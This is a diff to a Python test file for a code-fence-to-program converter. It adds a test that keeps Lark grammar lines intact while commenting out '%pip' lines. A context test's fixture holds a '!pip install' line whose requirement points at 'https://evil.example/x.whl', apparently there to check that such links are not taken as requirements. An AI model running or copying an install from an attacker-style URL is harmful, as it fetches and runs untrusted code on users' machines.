@@ -34,6 +34,14 @@ def test_notebook_commands_become_installs() -> None:
     assert fence.fixes
 
 
+def test_a_text_in_a_program_keeps_its_lines() -> None:
+    fence = program(
+        '```python\n%pip install lark\nfrom lark import Lark\ngrammar = """\n    start: NUM\n    %import common.NUM\n    %ignore " "\n"""\nprint(Lark(grammar).parse("1"))\n```'
+    )
+    assert "\n    %import common.NUM\n    %ignore" in fence.text
+    assert fence.text.startswith("# %pip")
+
+
 def test_links_are_not_taken_as_requirements() -> None:
     fence = program(
         "```\n!pip install torch==2.1.0 git+https://github.com/a/b 'x @ https://evil.example/x.whl'\nimport torch\ntorch.ones(1)\n```"
